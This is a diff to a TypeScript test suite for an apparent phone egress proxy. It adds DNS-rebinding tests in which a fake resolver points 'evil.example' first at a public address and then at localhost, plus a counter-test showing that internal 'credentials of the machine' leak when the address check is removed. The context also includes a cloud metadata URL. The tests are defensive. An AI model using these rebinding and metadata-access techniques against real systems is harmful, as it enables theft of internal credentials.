@@ -1,13 +1,13 @@
 import assert from 'node:assert/strict';
 import { createServer, type Server } from 'node:http';
-import type { AddressInfo } from 'node:net';
+import type { AddressInfo, LookupFunction } from 'node:net';
 import { after, before, describe, it } from 'node:test';
 import { fromUtf8 } from '@inro/problem';
 import type { WalletPorts } from '@inro/wallet/core';
 import { outcomeOf } from './support/attack.ts';
 import { type House, openHouse } from './support/house.ts';
 import { newPhone } from './support/people.ts';
-import { without } from './support/without.ts';
+import { asItIs, type World, without } from './support/without.ts';
 
 const GUARD = 'apps/handset/src/egress/guard.ts';
 const CARRY = 'apps/handset/src/egress/carry.ts';
@@ -56,6 +56,38 @@ describe("T-011 a malicious wallet reaches the phone's inner network through its
     assert.equal(await carry('http://169.254.169.254/latest/meta-data/'), refused);
   });
 
+  /** A name of the wallet's own: a public address the first time it is asked for, this machine afterwards. */
+  const fickle = (): LookupFunction => {
+    let asked = 0;
+    return (_name, options, callback) => {
+      const address = asked++ === 0 ? '93.184.215.14' : '127.0.0.1';
+      if (options.all) callback(null, [{ address, family: 4 }]);
+      else callback(null, address, 4);
+    };
+  };
+  /** The same request at a phone that may reach public services; what it asks, and how often, the attacker sees. */
+  const carryAbroad = async (resolve: LookupFunction, world: World = asItIs): Promise<string> => {
+    const { carryRequest } = await world<typeof import('../../apps/handset/src/egress/carry.ts')>(CARRY);
+    const policy = { host: 'localhost', forbiddenPorts: new Set<number>(), publicAddresses: true };
+    const request = { url: `http://evil.example:${port}/secret`, method: 'GET', headers: {} };
+    const answer = await outcomeOf(carryRequest(request, policy, resolve));
+    return typeof answer === 'string' ? answer : `${answer.status} ${atob(answer.body)}`;
+  };
+
+  it('is refused for a public name that leads here, and looks a name up no second time', async () => {
+    const asked: string[] = [];
+    const counted = (lookup: LookupFunction): LookupFunction => {
+      return (name, options, callback) => {
+        asked.push(name);
+        lookup(name, options, callback);
+      };
+    };
+    const changed = fickle();
+    await new Promise((resolve) => changed('evil.example', {}, resolve));
+    assert.equal(await carryAbroad(counted(changed)), refused);
+    assert.deepEqual(asked, ['evil.example']);
+  });
+
   it("is refused for the handset itself, other phones and wallets, the home page, the CA's inner side and the database", async () => {
     const { port: databasePort } = new URL(house.databases.ca!.url);
     for (const url of [
@@ -73,6 +105,14 @@ describe("T-011 a malicious wallet reaches the phone's inner network through its
   it('is not led there by a redirect, nor by headers of its own choice', async () => {
     assert.equal(await carry(`http://shop.localhost:${port}/away`), '302');
     assert.equal(await carry(`http://shop.localhost:${port}/`, { host: 'ca.localhost' }), refused);
+  });
+
+  it('counter-test: a phone that does not look at the address is led here by a name that changed its mind', async () => {
+    const changed = fickle();
+    await new Promise((resolve) => changed('evil.example', {}, resolve));
+    const defence = '!addresses.every(({ address }) => isAllowedAddress(hostname, address, policy))';
+    const gone = without({ file: CARRY, defence, instead: 'false' });
+    assert.equal(await carryAbroad(changed, gone), '200 credentials of the machine');
   });
 
   it("counter-test: a door without the guard reads the machine's secrets and the CA's inner side", async () => {
